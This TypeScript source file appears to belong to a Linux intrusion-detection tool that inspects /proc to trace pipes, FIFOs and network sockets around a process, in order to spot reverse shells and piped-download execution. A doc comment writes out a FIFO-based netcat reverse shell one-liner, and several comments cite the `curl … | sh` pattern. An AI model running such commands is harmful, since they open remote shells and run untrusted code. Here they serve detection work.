import { readdirSync, readFileSync, readlinkSync, statSync } from 'node:fs';

/**
 * What a process's stdio is connected to, read from `/proc` when a rule asks (lazily: only for the
 * few events that get that far). Pipelines and FIFOs are how a reverse shell is built without
 * bash's /dev/tcp (`mkfifo f; sh -i < f 2>&1 | nc host port > f`): the shell's stdio is a pipe,
 * the network socket is held by the process at the other end.
 */

/** `dev:ino` of fd `fd` of `pid` when it is a pipe or a FIFO, else undefined. */
export function fifoOf(pid: number, fd: number, proc = '/proc'): string | undefined {
  try {
    // throwIfNoEntry: a gone process is common here and an exception per call is not cheap
    const st = statSync(`${proc}/${pid}/fd/${fd}`, { throwIfNoEntry: false });
    return st?.isFIFO() ? `${st.dev}:${st.ino}` : undefined;
  } catch {
    return undefined;
  }
}

function children(pid: number, proc: string): number[] {
  try {
    return readFileSync(`${proc}/${pid}/task/${pid}/children`, 'utf8').trim().split(' ').filter(Boolean).map(Number);
  } catch {
    return [];
  }
}

function parentOf(pid: number, proc: string): number {
  try {
    const stat = readFileSync(`${proc}/${pid}/stat`, 'utf8');
    return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
  } catch {
    return 0;
  }
}

/**
 * The processes a pipeline links `pid` with: its parent, its siblings and its children (at most 64).
 * `ppid` 0 (not known yet: a connect record can overtake the exec record) is read from /proc.
 */
export function pipelinePeers(pid: number, ppid: number, proc = '/proc'): number[] {
  if (ppid <= 0) ppid = parentOf(pid, proc);
  const out = new Set<number>([...(ppid > 0 ? [ppid, ...children(ppid, proc)] : []), ...children(pid, proc)]);
  out.delete(pid);
  return [...out].slice(0, 64);
}

function cmdlineOf(pid: number, proc: string): string | undefined {
  try {
    return readFileSync(`${proc}/${pid}/cmdline`, 'latin1');
  } catch {
    return undefined;
  }
}

/**
 * Whether `peer`, a child of `ppid`, is still the parent's fork that has not exec'd its program yet:
 * until execve it shares the parent's command line (and name), so a shell's `curl … | grep` shows a
 * "bash" reading curl's output for a moment.
 */
function notYetExeced(peer: number, ppid: number, proc: string): boolean {
  if (peer === ppid || ppid <= 0) return false;
  const mine = cmdlineOf(peer, proc);
  return mine !== undefined && mine === cmdlineOf(ppid, proc) && commOf(peer, proc) === commOf(ppid, proc);
}

function commOf(pid: number, proc: string): string | undefined {
  try {
    return readFileSync(`${proc}/${pid}/comm`, 'utf8').trim();
  } catch {
    return undefined;
  }
}

function socketInodes(pid: number, proc: string, fds?: readonly number[]): Set<string> {
  const out = new Set<string>();
  let names: string[];
  try {
    names = fds ? fds.map(String) : readdirSync(`${proc}/${pid}/fd`);
  } catch {
    return out;
  }
  for (const n of names.slice(0, 4096)) {
    try {
      const m = /^socket:\[(\d+)\]$/.exec(readlinkSync(`${proc}/${pid}/fd/${n}`));
      if (m) out.add(m[1]!);
    } catch {
      /* closed meanwhile */
    }
  }
  return out;
}

interface InetSocket {
  readonly localPort: number;
  readonly state: number;
  readonly inode: string;
}

/** TCP/UDP sockets of the network namespace of `pid` (`/proc/<pid>/net/{tcp,tcp6,udp,udp6}`). */
function inetSockets(pid: number, proc: string): InetSocket[] {
  const out: InetSocket[] = [];
  for (const table of ['tcp', 'tcp6', 'udp', 'udp6']) {
    let text: string;
    try {
      text = readFileSync(`${proc}/${pid}/net/${table}`, 'utf8');
    } catch {
      continue;
    }
    for (const line of text.split('\n').slice(1)) {
      const f = line.trim().split(/\s+/);
      if (f.length < 10) continue;
      out.push({ localPort: parseInt(f[1]!.slice(f[1]!.lastIndexOf(':') + 1), 16), state: parseInt(f[3]!, 16), inode: f[9]! });
    }
  }
  return out;
}

/** Whether `pid` holds a TCP or UDP (AF_INET/AF_INET6) socket. */
export function holdsInetSocket(pid: number, proc = '/proc'): boolean {
  const mine = socketInodes(pid, proc);
  if (mine.size === 0) return false;
  return inetSockets(pid, proc).some((s) => mine.has(s.inode));
}

const TCP_LISTEN = 0x0a;

/**
 * Whether the network socket on fd 0 or 1 of `pid` is an accepted (inbound) TCP connection: its
 * local port has a listener. A reverse shell's socket is outbound (an ephemeral local port).
 * False when it cannot be told (the process is gone, not a TCP socket).
 */
export function stdioSocketInbound(pid: number, proc = '/proc'): boolean {
  const mine = socketInodes(pid, proc, [0, 1]);
  if (mine.size === 0) return false;
  const sockets = inetSockets(pid, proc);
  const listening = new Set(sockets.filter((s) => s.state === TCP_LISTEN).map((s) => s.localPort));
  return sockets.some((s) => mine.has(s.inode) && s.state !== TCP_LISTEN && listening.has(s.localPort));
}

/**
 * Whether fd 1 of `pid` is a pipe or FIFO that a pipeline peer reads on its fd 0 while holding a
 * network socket: the process's output goes to the network.
 */
export function stdoutToNetwork(pid: number, ppid: number, proc = '/proc'): boolean {
  const out = fifoOf(pid, 1, proc);
  if (!out) return false;
  return pipelinePeers(pid, ppid, proc).some((peer) => fifoOf(peer, 0, proc) === out && holdsInetSocket(peer, proc));
}

/**
 * Command names of the pipeline peers (parent, siblings, children) whose fd `theirs` is the same pipe
 * or FIFO as fd `mine` of `pid`, and that pass `keep`.
 */
function linkedPeers(pid: number, ppid: number, mine: 0 | 1, theirs: 0 | 1, proc: string, keep?: (peer: number) => boolean): string[] {
  const pipe = fifoOf(pid, mine, proc);
  if (!pipe) return [];
  const out: string[] = [];
  for (const peer of pipelinePeers(pid, ppid, proc)) {
    if (fifoOf(peer, theirs, proc) !== pipe || (keep !== undefined && !keep(peer))) continue;
    const comm = commOf(peer, proc);
    if (comm) out.push(comm);
  }
  return out;
}

/**
 * Command names of the pipeline peers whose fd 1 feeds fd 0 of `pid` (a pipe or FIFO) and whose own
 * fd 0 is a pipe or FIFO: programs that read commands from a pipe and write their output to this one.
 */
export function pipedStdinWriters(pid: number, ppid: number, proc = '/proc'): string[] {
  return linkedPeers(pid, ppid, 0, 1, proc, (peer) => fifoOf(peer, 0, proc) !== undefined);
}

/**
 * Command names of the pipeline peers (parent, siblings, children) whose fd 1 feeds fd 0 of `pid`
 * through a pipe or FIFO, whatever their own fd 0 is: the programs a `curl … | sh` shell reads its
 * commands from. Empty when fd 0 is not a pipe or the feeders are gone.
 */
export function stdinFeeders(pid: number, ppid: number, proc = '/proc'): string[] {
  return linkedPeers(pid, ppid, 0, 1, proc);
}

/**
 * Command names of the pipeline peers that read fd 1 of `pid` on their fd 0 (a pipe or FIFO): the
 * `sh` of `curl … | sh` seen from curl's side. A sibling that is still the parent shell's fork (it has
 * not exec'd its program yet) is left out: it is not yet what will read.
 */
export function stdoutReaders(pid: number, ppid: number, proc = '/proc'): string[] {
  const parent = ppid > 0 ? ppid : parentOf(pid, proc);
  return linkedPeers(pid, ppid, 1, 0, proc, (peer) => !notYetExeced(peer, parent, proc));
}
